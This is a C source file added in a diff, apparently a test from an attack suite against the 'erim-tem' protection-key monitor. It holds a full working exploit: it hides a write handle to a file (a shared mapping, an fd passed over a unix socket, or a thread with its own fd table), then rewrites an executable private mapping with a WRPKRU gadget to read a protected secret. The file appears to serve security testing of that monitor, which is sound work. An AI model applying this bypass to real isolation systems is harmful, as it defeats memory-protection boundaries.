@@ -1,0 +1,207 @@
+/* atk_hidden_writer.c: a write capability to a file that erim-tem cannot
+ * see when it grants execute on a MAP_PRIVATE mapping of that file, used
+ * after the grant: the page cache behind a not-yet-copied private page
+ * changes, and with it the executable bytes.  Three hiding places, each
+ * tried in turn (the attack succeeds if any works):
+ *
+ *   shared:  the file mapped MAP_SHARED, read-only, from an O_RDWR fd that
+ *            is then closed; made writable with mprotect after the grant;
+ *   socket:  the O_RDWR fd in flight in a unix socket (SCM_RIGHTS), in no
+ *            fd table; received back after the grant;
+ *   thread:  the O_RDWR fd in the fd table of a thread cloned without
+ *            CLONE_FILES (/proc/TGID/fd lists the leader's table only);
+ *   socket, execute by mprotect: as socket, the mapping made read-only
+ *            first and executable by mprotect (the other grant path).
+ *
+ * The new bytes are a WRPKRU gadget; with protection keys the program
+ * calls it with the trusted PKRU and reads the secret. */
+#include <fcntl.h>
+#include <sched.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+
+#include "atk_common.h"
+
+/* mov eax,edi; xor ecx,ecx; xor edx,edx; wrpkru; ret */
+static const uint8_t gadget[] = { 0x89, 0xf8, 0x31, 0xc9, 0x31, 0xd2, 0x0f, 0x01, 0xef, 0xc3 };
+static const uint8_t clean[] = { 0xb8, 0x07, 0x00, 0x00, 0x00, 0xc3 };   /* mov eax,7; ret */
+
+static int make_file(const char *path)
+{
+	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
+	int ok = fd >= 0 && ftruncate(fd, 4096) == 0 && pwrite(fd, clean, sizeof clean, 0) == (ssize_t)sizeof clean;
+
+	if (fd >= 0)
+		close(fd);
+	return ok ? 0 : -1;
+}
+
+static int pass_fd(int sock, int fd)
+{
+	char data = 'f';
+	union { char buf[CMSG_SPACE(sizeof(int))]; struct cmsghdr align; } u;
+	struct iovec iov = { &data, 1 };
+	struct msghdr msg;
+	struct cmsghdr *cm;
+
+	memset(&msg, 0, sizeof msg);
+	memset(&u, 0, sizeof u);
+	msg.msg_iov = &iov;
+	msg.msg_iovlen = 1;
+	msg.msg_control = u.buf;
+	msg.msg_controllen = sizeof u.buf;
+	cm = CMSG_FIRSTHDR(&msg);
+	cm->cmsg_level = SOL_SOCKET;
+	cm->cmsg_type = SCM_RIGHTS;
+	cm->cmsg_len = CMSG_LEN(sizeof(int));
+	memcpy(CMSG_DATA(cm), &fd, sizeof fd);
+	return sendmsg(sock, &msg, 0) == 1 ? 0 : -1;
+}
+
+static int take_fd(int sock)
+{
+	char data;
+	union { char buf[CMSG_SPACE(sizeof(int))]; struct cmsghdr align; } u;
+	struct iovec iov = { &data, 1 };
+	struct msghdr msg;
+	struct cmsghdr *cm;
+	int fd;
+
+	memset(&msg, 0, sizeof msg);
+	msg.msg_iov = &iov;
+	msg.msg_iovlen = 1;
+	msg.msg_control = u.buf;
+	msg.msg_controllen = sizeof u.buf;
+	if (recvmsg(sock, &msg, 0) != 1 || !(cm = CMSG_FIRSTHDR(&msg)) || cm->cmsg_type != SCM_RIGHTS)
+		return -1;
+	memcpy(&fd, CMSG_DATA(cm), sizeof fd);
+	return fd;
+}
+
+/* the thread with a private fd table */
+static const char *thr_path;
+static volatile int thr_state;   /* 1 holds the fd, 2 write now, 3 written, -1 failed */
+
+static int thr_main(void *arg)
+{
+	int fd = open(thr_path, O_RDWR);
+
+	(void)arg;
+	thr_state = fd >= 0 ? 1 : -1;
+	while (thr_state == 1)
+		syscall(SYS_sched_yield);
+	if (thr_state == 2)
+		thr_state = pwrite(fd, gadget, sizeof gadget, 0) == (ssize_t)sizeof gadget ? 3 : -1;
+	for (;;)
+		syscall(SYS_pause);
+	return 0;
+}
+
+/* One hiding place: 1 the executable mapping shows the gadget (and, with a
+ * key, ran it), 0 refused somewhere, -1 set-up error. */
+static int try_mode(const char *mode)
+{
+	static char stk[65536] __attribute__((aligned(16)));
+	static int nth;
+	char path[80];
+	volatile uint8_t *x, *alias = NULL;
+	int fd, wfd, sv[2] = { -1, -1 }, won = 0, late = strstr(mode, "mprotect") != NULL;
+
+	snprintf(path, sizeof path, "/tmp/atk_hidden_writer.%d.%d", (int)getpid(), nth++);
+	if (make_file(path) != 0)
+		return -1;
+	if (!strcmp(mode, "shared")) {
+		if ((fd = open(path, O_RDWR)) < 0)
+			return -1;
+		alias = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
+		close(fd);
+		if (alias == MAP_FAILED)
+			return -1;
+	} else if (!strncmp(mode, "socket", 6)) {
+		if (socketpair(AF_UNIX, SOCK_DGRAM, 0, sv) != 0 || (fd = open(path, O_RDWR)) < 0)
+			return -1;
+		if (pass_fd(sv[0], fd) != 0)
+			return -1;
+		close(fd);
+	} else {
+		thr_path = path;
+		if (clone(thr_main, stk + sizeof stk, CLONE_VM | CLONE_SIGHAND | CLONE_THREAD, NULL) < 0)
+			return -1;
+		while (thr_state == 0)
+			syscall(SYS_sched_yield);
+		if (thr_state < 0)
+			return -1;
+	}
+	fd = open(path, O_RDONLY);
+	x = mmap(NULL, 4096, late ? PROT_READ : PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
+	close(fd);
+	if (x != MAP_FAILED && late && mprotect((void *)x, 4096, PROT_READ | PROT_EXEC) != 0)
+		x = MAP_FAILED;   /* execute granted later, by mprotect */
+	if (x == MAP_FAILED) {
+		atk_say("%s: the clean file was not granted read+execute: %s", mode, strerror(errno));
+		unlink(path);
+		return -1;
+	}
+	if (!strcmp(mode, "shared")) {
+		if (mprotect((void *)alias, 4096, PROT_READ | PROT_WRITE) == 0) {
+			memcpy((void *)alias, gadget, sizeof gadget);
+			atk_say("%s: the read-only shared alias was made writable; gadget written", mode);
+		} else {
+			atk_say("%s: mprotect(shared alias, RW): %s", mode, strerror(errno));
+		}
+	} else if (!strncmp(mode, "socket", 6)) {
+		if ((wfd = take_fd(sv[1])) >= 0 && pwrite(wfd, gadget, sizeof gadget, 0) == (ssize_t)sizeof gadget)
+			atk_say("%s: the fd came back out of the socket; gadget written", mode);
+		else
+			atk_say("%s: fd back from the socket / pwrite: %s", mode, strerror(errno));
+	} else {
+		thr_state = 2;
+		while (thr_state == 2)
+			syscall(SYS_sched_yield);
+		atk_say("%s: the thread's pwrite %s", mode, thr_state == 3 ? "wrote the gadget" : "failed");
+	}
+	unlink(path);
+	if (x[6] == 0x0f && x[7] == 0x01 && x[8] == 0xef) {
+		atk_say("%s: the read+execute mapping now holds WRPKRU", mode);
+		won = 1;
+		if (atk_pkey > 0) {
+			uint32_t (*fn)(uint32_t) = (uint32_t (*)(uint32_t))(uintptr_t)x;
+			uint8_t got;
+
+			fn(atk_pkru_t);   /* untrusted code executes WRPKRU */
+			got = atk_secret[0];
+			atk_secret[0] = (uint8_t)(got + 1);
+			atk_untrusted();
+			atk_say("%s: WRPKRU ran from untrusted code: secret byte 0x%02x read and changed", mode, got);
+		}
+	} else {
+		atk_say("%s: the executable bytes are the inspected ones (0x%02x ...)", mode, x[0]);
+	}
+	munmap((void *)x, 4096);   /* no seam with the next mode's mapping */
+	return won;
+}
+
+static enum atk_result atk_attack(void)
+{
+	static const char *const modes[] = { "shared", "socket", "thread", "socket, execute by mprotect" };
+	int won = 0;
+	size_t i;
+
+	if (geteuid() != 0) {
+		atk_say("needs root: erim-tem grants executable file mappings of root-owned files only");
+		return ATK_NA;
+	}
+	for (i = 0; i < sizeof modes / sizeof modes[0]; i++) {
+		int r = try_mode(modes[i]);
+
+		if (r < 0 && !won)
+			return ATK_ERROR;
+		if (r < 0)
+			break;
+		won |= r;
+	}
+	return won ? ATK_SUCCEEDED : ATK_REFUSED;
+}
+
+static const char *atk_name = "atk_hidden_writer";
+static int atk_needs_pku = 0;
